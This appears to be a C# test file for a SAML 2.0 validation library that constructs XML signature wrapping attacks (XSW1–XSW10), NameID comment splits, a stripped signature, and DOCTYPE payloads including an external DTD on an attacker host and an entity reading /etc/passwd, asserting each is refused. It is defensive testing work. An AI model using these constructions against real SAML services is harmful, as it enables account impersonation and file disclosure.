using System.Xml;
using static Plinto.Saml2.Tests.SamlSamples;

namespace Plinto.Saml2.Tests;

/// <summary>
/// The attack corpus of the security checklist: XML signature wrapping (XSW1–XSW8, XSW10 as catalogued by
/// Somorovsky et al., "On Breaking SAML", and SAML Raider), an extra unsigned assertion, NameID splits, a stripped
/// signature, DOCTYPE and entity tricks, oversized and deeply nested input. Each must be refused with its reason.
/// </summary>
internal sealed class Saml2AttackTests
{
    private const string Evil = "admin@example.test";

    /// <summary>The signed assertion, and an unsigned copy saying something else (the attacker's).</summary>
    private static (XmlDocument Document, XmlElement Response, XmlElement Signed, XmlElement Evil) Parts(bool signResponse = false, bool keepId = true)
    {
        var document = Signed(Xml(), assertion: !signResponse, response: signResponse);
        var response = document.DocumentElement!;
        var signed = (XmlElement)response.GetElementsByTagName("Assertion", Saml2Xml.AssertionNamespace)[0]!;
        var evil = (XmlElement)signed.CloneNode(deep: true);
        if (evil.GetElementsByTagName("Signature", Saml2Xml.SignatureNamespace).Count > 0)
        {
            evil.RemoveChild(evil.GetElementsByTagName("Signature", Saml2Xml.SignatureNamespace)[0]!);
        }

        evil.GetElementsByTagName("NameID", Saml2Xml.AssertionNamespace)[0]!.InnerText = Evil;
        if (!keepId)
        {
            evil.SetAttribute("ID", "_evil");
        }

        return (document, response, signed, evil);
    }

    private static XmlElement Signature(XmlElement element) =>
        element.ChildNodes.OfType<XmlElement>().Single(e => e.LocalName == "Signature" && e.NamespaceURI == Saml2Xml.SignatureNamespace);

    private static XmlElement Object(XmlElement signature)
    {
        var element = signature.OwnerDocument.CreateElement("ds", "Object", Saml2Xml.SignatureNamespace);
        signature.AppendChild(element);
        return element;
    }

    private static XmlElement Extensions(XmlElement response)
    {
        var element = response.OwnerDocument.CreateElement("samlp", "Extensions", Saml2Xml.ProtocolNamespace);
        response.InsertAfter(element, response.FirstChild!.NextSibling!);
        return element;
    }

    private static void AssertRefused(XmlDocument document, params Saml2Failure[] reasons)
    {
        var refusal = Assert.Throws<Saml2ValidationException>(() => Validate(document))!;
        Assert.That(reasons, Does.Contain(refusal.Reason), refusal.Message);
        Assert.That(refusal.Message, Does.Not.Contain(Evil), "reasons never echo the message");
    }

    [Test]
    public void XSW1_signed_response_copied_into_its_own_signature_and_the_outer_one_rewritten()
    {
        var (document, response, _, evil) = Parts(signResponse: true);
        var copy = (XmlElement)response.CloneNode(deep: true);
        Object(Signature(response)).AppendChild(copy);
        response.ReplaceChild(evil, response.ChildNodes.OfType<XmlElement>().Single(e => e.LocalName == "Assertion"));
        AssertRefused(document, Saml2Failure.DuplicateId, Saml2Failure.AssertionCount);
    }

    [Test]
    public void XSW2_signed_response_copied_before_the_signature()
    {
        var (document, response, _, evil) = Parts(signResponse: true);
        var copy = (XmlElement)response.CloneNode(deep: true);
        response.InsertBefore(copy, Signature(response));
        response.ReplaceChild(evil, response.ChildNodes.OfType<XmlElement>().Last(e => e.LocalName == "Assertion"));
        AssertRefused(document, Saml2Failure.DuplicateId, Saml2Failure.AssertionCount);
    }

    [Test]
    public void XSW3_evil_assertion_with_the_same_ID_before_the_signed_one()
    {
        var (document, response, signed, evil) = Parts();
        response.InsertBefore(evil, signed);
        AssertRefused(document, Saml2Failure.DuplicateId, Saml2Failure.AssertionCount);
    }

    [Test]
    public void XSW4_signed_assertion_moved_inside_the_evil_one()
    {
        var (document, response, signed, evil) = Parts();
        response.ReplaceChild(evil, signed);
        evil.AppendChild(signed);
        AssertRefused(document, Saml2Failure.DuplicateId, Saml2Failure.AssertionCount);
    }

    [Test]
    public void XSW5_evil_assertion_carries_the_signature_and_the_original_is_appended()
    {
        var (document, response, signed, evil) = Parts(keepId: true);
        var signature = Signature(signed);
        evil.InsertAfter(signature.CloneNode(deep: true), evil.FirstChild!.NextSibling!);
        response.ReplaceChild(evil, signed);
        response.AppendChild(signed);
        AssertRefused(document, Saml2Failure.DuplicateId, Saml2Failure.AssertionCount);
    }

    [Test]
    public void XSW6_original_assertion_hidden_in_the_evil_ones_signature_object()
    {
        var (document, response, signed, evil) = Parts(keepId: true);
        var signature = (XmlElement)Signature(signed).CloneNode(deep: true);
        evil.InsertAfter(signature, evil.FirstChild!.NextSibling!);
        response.ReplaceChild(evil, signed);
        Object(signature).AppendChild(signed);
        AssertRefused(document, Saml2Failure.DuplicateId, Saml2Failure.AssertionCount);
    }

    [Test]
    public void XSW7_original_assertion_moved_into_an_extensions_element()
    {
        var (document, response, signed, evil) = Parts(keepId: false);
        response.ReplaceChild(evil, signed);
        Extensions(response).AppendChild(signed);
        AssertRefused(document, Saml2Failure.AssertionCount, Saml2Failure.MissingSignature);
    }

    [Test]
    public void XSW8_original_assertion_inside_an_object_of_the_evil_assertions_copied_signature()
    {
        var (document, response, signed, evil) = Parts(keepId: false);
        var signature = (XmlElement)Signature(signed).CloneNode(deep: true);
        evil.InsertAfter(signature, evil.FirstChild!.NextSibling!);
        var holder = Object(signature);
        response.ReplaceChild(evil, signed);
        holder.AppendChild(signed);
        AssertRefused(document, Saml2Failure.AssertionCount, Saml2Failure.SignatureShape, Saml2Failure.InvalidSignature);
    }

    [Test]
    public void XSW10_evil_assertion_with_a_new_ID_before_the_signed_one()
    {
        var (document, response, signed, evil) = Parts(keepId: false);
        response.InsertBefore(evil, signed);
        AssertRefused(document, Saml2Failure.AssertionCount);
    }

    [Test]
    public void An_extra_unsigned_assertion_after_the_signed_one()
    {
        var (document, response, _, evil) = Parts(keepId: false);
        response.AppendChild(evil);
        AssertRefused(document, Saml2Failure.AssertionCount);
    }

    [Test]
    public void A_signature_stripped_off()
    {
        var (document, _, signed, _) = Parts();
        signed.RemoveChild(Signature(signed));
        AssertRefused(document, Saml2Failure.MissingSignature);
    }

    [Test]
    public void An_Id_decoy_next_to_the_signed_element()
    {
        var (document, response, _, evil) = Parts(keepId: false);
        evil.SetAttribute("Id", AssertionId);
        response.AppendChild(evil);
        AssertRefused(document, Saml2Failure.DuplicateId);
    }

    // Exclusive c14n drops comments, so the signature still verifies: the NameID must be refused on its shape.
    [TestCase("admin@example.test<!-- -->.evil.test")]
    [TestCase("admin@example.test<?split?>.evil.test")]
    [TestCase("admin@example.test<![CDATA[]]>.evil.test")]
    public void A_NameID_split_by_a_comment_a_processing_instruction_or_CDATA(string nameId) =>
        Assert.That(Refusal(Signed(Xml(nameId: nameId))), Is.AnyOf(Saml2Failure.NameId, Saml2Failure.InvalidSignature));

    [TestCase("<!DOCTYPE r [<!ENTITY e \"admin@example.test\">]>")]
    [TestCase("<!DOCTYPE r SYSTEM \"http://attacker.example.test/x.dtd\">")]
    [TestCase("<!DOCTYPE r [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]>")]
    public void Any_DOCTYPE_is_refused_before_anything_is_read(string doctype)
    {
        var error = Assert.Throws<Saml2ValidationException>(() => Saml2Xml.Load(doctype + Xml()))!;
        Assert.That(error.Reason, Is.EqualTo(Saml2Failure.DocumentTypeDefinition));
    }

    [Test]
    public void Oversized_and_deeply_nested_input_is_refused()
    {
        var huge = Xml().Replace("</samlp:Response>", new string(' ', 300 * 1024) + "</samlp:Response>", StringComparison.Ordinal);
        var deep = "<r>" + string.Concat(Enumerable.Repeat("<a>", 100)) + string.Concat(Enumerable.Repeat("</a>", 100)) + "</r>";
        Assert.Multiple(() =>
        {
            Assert.That(Assert.Throws<Saml2ValidationException>(() => Saml2Xml.Load(huge))!.Reason, Is.EqualTo(Saml2Failure.TooLarge));
            Assert.That(Assert.Throws<Saml2ValidationException>(() => Saml2Xml.Load(deep))!.Reason, Is.EqualTo(Saml2Failure.TooLarge));
            Assert.That(Assert.Throws<Saml2ValidationException>(() => Saml2Xml.Load("<r><unclosed></r>"))!.Reason, Is.EqualTo(Saml2Failure.Malformed));
        });
    }
}
